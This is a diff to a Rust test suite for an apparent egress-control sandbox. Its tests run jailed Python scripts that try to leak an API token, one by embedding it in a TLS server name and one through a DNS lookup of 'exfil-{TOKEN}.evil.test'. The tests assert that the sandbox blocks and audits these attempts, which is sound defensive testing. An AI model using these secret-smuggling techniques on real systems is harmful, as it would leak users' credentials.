@@ -126,6 +126,67 @@ for host in ("api.test", "other.test"):
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_connection_to_a_literal_address_is_named_by_its_tls_server_name() {
+    let pki = TestPki::new();
+    let upstream =
+        RecordingUpstream::start(&pki, &["api.test", "other.test"], &[b"http/1.1"]).await;
+    let dir = tempfile::tempdir().unwrap();
+    let port = upstream.port();
+    // A client that resolved the name itself (an address sluice never handed out) but
+    // names the server in its ClientHello: decided on that name, as a CONNECT to it. The
+    // address it dialled (127.0.0.2, the jail's own loopback) is never dialled by sluice.
+    let python = format!(
+        r#"import os, socket, ssl
+context = ssl.create_default_context()
+for name in ("api.test", "other.test", os.environ["API_TOKEN"].lower() + ".api.test"):
+    try:
+        raw = socket.create_connection(("127.0.0.2", {port}), timeout=5)
+        tls = context.wrap_socket(raw, server_hostname=name)
+        tls.sendall(("GET /sni HTTP/1.1\r\nHost: %s:{port}\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (name, os.environ["API_TOKEN"])).encode())
+        answer = b""
+        while True:
+            chunk = tls.recv(65536)
+            if not chunk:
+                break
+            answer += chunk
+        print("sni", name[:10], answer.split(b"\r\n")[0].decode())
+    except OSError as e:
+        print("sni", name[:10], "failed", type(e).__name__)
+"#
+    );
+    std::fs::write(dir.path().join("sni.py"), python).unwrap();
+    let script = format!("unset {PROXY_AND_CA}; python3 sni.py");
+    let dir_path = dir.path().to_owned();
+    let ca = pki.ca_path();
+    let out = tokio::task::spawn_blocking(move || run_jailed(&dir_path, &ca, &[], &script))
+        .await
+        .unwrap();
+    let stdout = text(&out.stdout);
+    assert!(
+        out.status.success(),
+        "stdout: {stdout}\nstderr: {}",
+        text(&out.stderr)
+    );
+    for line in [
+        "sni api.test HTTP/1.1 200 OK",
+        "sni other.test HTTP/1.1 403 Forbidden",
+        // A server name spelling the placeholder goes nowhere.
+        "sni sluice_api failed",
+    ] {
+        assert!(stdout.contains(line), "{line:?} not in {stdout}");
+    }
+    let records = upstream.records();
+    assert_eq!(records.len(), 1, "{records:?}");
+    assert_eq!(
+        records[0].headers["authorization"],
+        format!("Bearer {TOKEN}").as_str()
+    );
+    let log = audit(dir.path());
+    assert!(log.contains("placeholder-not-granted"), "{log}");
+    assert!(!log.contains(TOKEN), "{log}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn nothing_else_leaves_the_jail() {
     let pki = TestPki::new();
     let upstream = RecordingUpstream::start(&pki, &["api.test"], &[b"http/1.1"]).await;
@@ -147,9 +208,12 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"ping", ("127.0.
 attempt("dns-undeclared", lambda: socket.getaddrinfo("exfil-{TOKEN}.evil.test", 443))
 attempt("dns-declared", lambda: socket.getaddrinfo("api.test", 443))
 c = socket.create_connection(("127.0.0.2", {tcp_port}), timeout=3)
+c.sendall(b"GET / HTTP/1.0\r\nHost: api.test\r\n\r\n")
 c.settimeout(3)
 try:
     print("unmapped", "closed" if c.recv(1) == b"" else "data")
+except ConnectionResetError:
+    print("unmapped", "closed")
 except OSError as e:
     print("unmapped", "failed", type(e).__name__)
 "#
